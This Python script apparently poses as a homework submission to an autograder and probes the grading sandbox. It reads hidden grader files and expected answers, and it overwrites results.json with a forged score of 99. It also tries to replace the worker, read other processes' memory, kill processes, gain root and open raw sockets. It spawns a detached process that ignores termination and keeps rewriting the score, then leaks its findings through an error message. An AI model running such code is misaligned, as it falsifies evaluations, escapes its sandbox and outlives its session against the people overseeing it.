"""What an answer tries where no walls stand; the error that ends it tells what it could."""

import contextlib
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

found = []
BASE = Path("/autograder")
SECRET = ("source/course/homework/hw99/source.ipynb", "submission_metadata.json", "results/results.json")
SECRET += ("submission/hw99_doubling.ipynb", "source/setup.sh", "results/stdout")


def tried(name, act):
    """Note what works."""
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        found.append(f"{name}: {act()!r:.60}")


for name in SECRET:
    tried(f"read {name}", lambda name=name: (BASE / name).read_bytes())
    tried(f"write {name}", lambda name=name: (BASE / name).write_text('{"score": 99}'))
for name in ("source", "submission", "results", "."):
    tried(f"list {name}", lambda name=name: list((BASE / name).iterdir()))
    tried(f"make a file in {name}", lambda name=name: (BASE / name / "mine").write_text("x"))
tried("another results", lambda: (BASE / "results").rename(BASE / "old"))
tried("change the worker", lambda: (BASE / "student" / "course" / "homework" / "worker.py").write_text(""))
tried("a link", lambda: (BASE / "results" / "results.json").symlink_to("/dev/shm/mine"))
for place in ("/tmp", "/var/tmp", "/", "/etc", "/opt/deep-learning-course", "/autograder/student"):
    tried(f"make a file in {place}", lambda place=place: (Path(place) / "mine").write_text("x"))
tried(
    "the root of ../..",
    lambda: Path("/proc/self/root/autograder/source/course").resolve().iterdir().__next__(),
)

others = [path for path in Path("/proc").glob("[0-9]*") if path.stat().st_uid != os.getuid()]
for path in others:
    for part in ("environ", "mem", "maps", "fd/1", "cwd/x", "root/x", "exe"):
        tried(f"{path / part}", lambda path=path, part=part: (path / part).open("rb").read(1))
    tried(f"kill {path.name}", lambda path=path: os.kill(int(path.name), signal.SIGKILL))
    words = (path / "cmdline").read_bytes()
    found += [f"{path}: a secret" for secret in (b"hw99", b"HIDDEN", b"expect") if secret in words]
tried("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
tried("root", lambda: os.setuid(0))
tried("root by a program", lambda: subprocess.run(["su", "-c", "true"], check=True, stdin=subprocess.DEVNULL))
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_PACKET):
    tried(f"a socket {family}", lambda family=family: socket.socket(family))
found += [name for name, value in os.environ.items() if "secret" in (name + value).lower()]
found += [name for name in sys.modules if name.startswith(("homework.judge", "homework.teacher"))]

# A process that stays, in a session of its own, and files where others look.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        end = time.monotonic() + 600
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                (BASE / "results" / "results.json").write_text('{"score": 99}')
            time.sleep(0.01)
    os._exit(0)
Path("/dev/shm/mine").write_text("x")
Path("/dev/shm", *["deep"] * 300).mkdir(parents=True)
Path("/dev/shm/link").symlink_to("/autograder/source")
print("x" * 10_000_000)
raise RuntimeError("it could: " + ("; ".join(found) or "nothing"))
